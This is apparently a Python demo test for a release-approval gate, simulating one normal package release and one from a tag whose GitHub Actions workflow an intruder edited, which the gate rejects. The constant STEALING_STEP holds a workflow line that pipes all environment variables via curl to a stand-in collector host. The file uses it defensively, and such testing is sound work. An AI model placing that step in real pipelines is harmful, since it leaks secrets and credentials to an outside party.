"""Two releases in the demo: one as it should be, and one from a tag whose workflow nobody reviewed."""

from collections.abc import Callable

from tests.demo.check_run_watcher import CheckRunWatcher, CompletedCheckRun
from tests.demo.demo_registries import DemoGateDecision
from tests.demo.demo_scenarios import RELEASE, WORKFLOW, DemoScenario
from tests.fakes.github.scenario.scenario_repository import ScenarioRepository
from tests.fakes.github.state.runs import FakeJob, FakeWorkflowRun

TOOLBOX = "acme/toolbox"
PLACE = "release"  # the environment that it publishes from
RELEASED = DemoScenario(
    TOOLBOX, "was let go by the gate, and each link of its chain is there", "success", "traced", RELEASE
)
STEALING_STEP = "      - run: curl --data @- https://collector.example < <(env)\n"
STEPS = (
    "Run actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c",
    "Run pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e",
)
PrintNews = Callable[[CompletedCheckRun], None]


def release(watcher: CheckRunWatcher, report: PrintNews) -> None:
    """Sam releases acme/toolbox 1.4.0; Mona approves, the gate looks and lets it go, and its evidence is gathered."""
    toolbox = watcher.repositories[TOOLBOX]
    run, job = _release_tag(watcher, toolbox, "v1.4.0", report)
    watcher.expect(RELEASED, run.head_sha, ", tag v1.4.0")
    watcher.registries.publish(run, TOOLBOX, "acme-toolbox", "1.4.0")
    toolbox.finish_job(run, job, steps=dict.fromkeys(STEPS, "success"))
    toolbox.finish_run(run)
    watcher.wait_until(lambda: not watcher.missing() and _is_done(toolbox, run), report)


def release_unreviewed_tag(watcher: CheckRunWatcher, report: PrintNews) -> None:
    """Somebody with Sam's password tags a commit whose workflow was edited. Mona approves; the gate looks, and rejects it."""
    toolbox = watcher.repositories[TOOLBOX]
    edited = toolbox.state.files(toolbox.head)[WORKFLOW].decode()
    sha = toolbox.push({WORKFLOW: edited + STEALING_STEP}, "Bump", branch="bump", by="sam")
    run, _ = _release_tag(watcher, toolbox, "v1.4.1", report, sha)
    toolbox.finish_run(run)
    watcher.wait_until(lambda: True, report)


def _release_tag(
    watcher: CheckRunWatcher, toolbox: ScenarioRepository, tag: str, report: PrintNews, sha: str | None = None
) -> tuple[FakeWorkflowRun, FakeJob]:
    """Tag, run, approve, and wait for the gate."""
    toolbox.tag(tag, sha, by="sam")
    run = toolbox.start_run(WORKFLOW, ref=tag, by="sam")
    job = toolbox.start_job(run, "publish", environment=PLACE)
    decided = DemoGateDecision(TOOLBOX, tag, run.pending_deployments[PLACE], watcher.github.app.id)
    watcher.gate_decisions.append(decided)
    toolbox.approve(run, PLACE, by="mona")
    watcher.wait_until(lambda: decided.verdict is not None, report)
    return run, job


def _is_done(toolbox: ScenarioRepository, run: FakeWorkflowRun) -> bool:
    return any(each.conclusion == RELEASED.conclusion for each in toolbox.check_runs(run.head_sha, RELEASE))
